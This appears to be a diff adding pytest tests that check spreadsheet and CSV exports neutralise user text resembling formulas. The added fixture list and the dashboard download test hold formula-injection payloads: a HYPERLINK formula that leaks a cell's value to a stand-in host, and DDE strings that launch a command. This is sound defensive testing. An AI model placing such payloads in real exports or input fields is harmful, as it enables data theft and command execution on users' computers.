@@ -78,6 +78,27 @@ def test_file_names_are_ascii():
         table_response(TABLE, "pdf", "x")
 
 
+# A13: what a person typed reaches the reader as those characters, never as a formula (OWASP's starts).
+FORMULA_LIKE = [
+    '=HYPERLINK("http://x?leak="&B3,"bấm")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+]
+
+
+@pytest.mark.parametrize("typed", FORMULA_LIKE, ids=["equals", "plus", "minus", "at", "tab"])
+def test_a_text_that_looks_like_a_formula_is_written_as_text(typed):
+    table = Table(typed, ["Đơn vị", typed], [[typed, Decimal("-1.5")]])
+    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx(table))).active
+    for cell in (sheet["A1"], sheet["B2"], sheet["A3"]):
+        assert cell.data_type == "s" and cell.value == typed and cell.quotePrefix
+    assert sheet["B3"].data_type == "n" and sheet["B3"].value == -1.5  # a number stays a number
+    rows = list(csv.reader(io.StringIO(to_csv(table, title=True).decode("utf-8-sig"))))
+    assert rows == [[f"'{typed}"], ["Đơn vị", f"'{typed}"], [f"'{typed}", "-1.5"]]
+
+
 # ---------------------------------------------------------------- overview tables
 
 
@@ -252,3 +273,15 @@ def test_export_queries_do_not_grow(
     rows = csv_rows(client.get(unit, {"bang": "theo-thang", "xuat": "csv"}))
     # The months exported are those up to the latest accepted report.
     assert {r[2] for r in rows[1:]} == {f"{m:02d}/2026" for m in range(1, months + 1)}
+
+
+def test_dashboard_downloads_write_a_formula_like_name_as_text(client, scored, sam):
+    from units.models import Unit
+
+    typed = '=HYPERLINK("http://x?leak="&B3,"bấm")'
+    Unit.objects.filter(code="VP").update(short_name=typed)
+    sheet = openpyxl.load_workbook(io.BytesIO(overview_file(client, sam, scored, "xep-hang", "xlsx").content)).active
+    cells = [row[2] for row in sheet.iter_rows(min_row=3) if row[1].value == "VP"]
+    assert len(cells) == 1 and cells[0].data_type == "s" and cells[0].value == typed
+    rows = csv_rows(overview_file(client, sam, scored, "xep-hang", "csv"))
+    assert [row[2] for row in rows if row[1] == "VP"] == [f"'{typed}"]
